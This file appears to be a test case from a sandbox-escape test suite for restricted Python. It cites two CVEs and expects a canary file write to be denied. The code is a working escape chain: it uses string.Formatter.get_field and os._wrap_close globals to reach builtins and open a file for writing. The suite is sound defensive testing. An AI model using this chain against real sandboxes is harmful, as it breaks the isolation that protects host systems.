# SPDX-License-Identifier: Apache-2.0
# tries: get string.Formatter, which resolves dotted names, also from behind a proxy (P04, P05)
# proof: changed
# expect: openat write deny EACCES @CANARY@/file
# needs: python>=3.10
# for: restricted
#
# CVE-2023-41039: the string module was lent as it is, and Formatter.get_field walks any path and
# returns the object.  CVE-2024-47532: since 7.0 a proxy without Formatter is lent; asked for a
# name that does not exist by a guard that raises, it passes on the error of the real module, and
# that knows the module.  Fixed in 7.3.  Such code imports only what its host lists; `string` has
# always been on such lists.

import string

try:
    string.no_such_name
except AttributeError as e:
    string = e.obj
formatter = string.Formatter()


def reach(path, start):
    return formatter.get_field('0.' + path, (start,), {})[0]


for c in reach('__class__.__base__.__subclasses__', ())():
    if 'os._wrap_close' in str(c):
        scope = reach('__init__.__globals__', c)

try:
    scope['__builtins__']['open']('@CANARY@/file', 'w').write('PWNED')
except Exception:
    pass
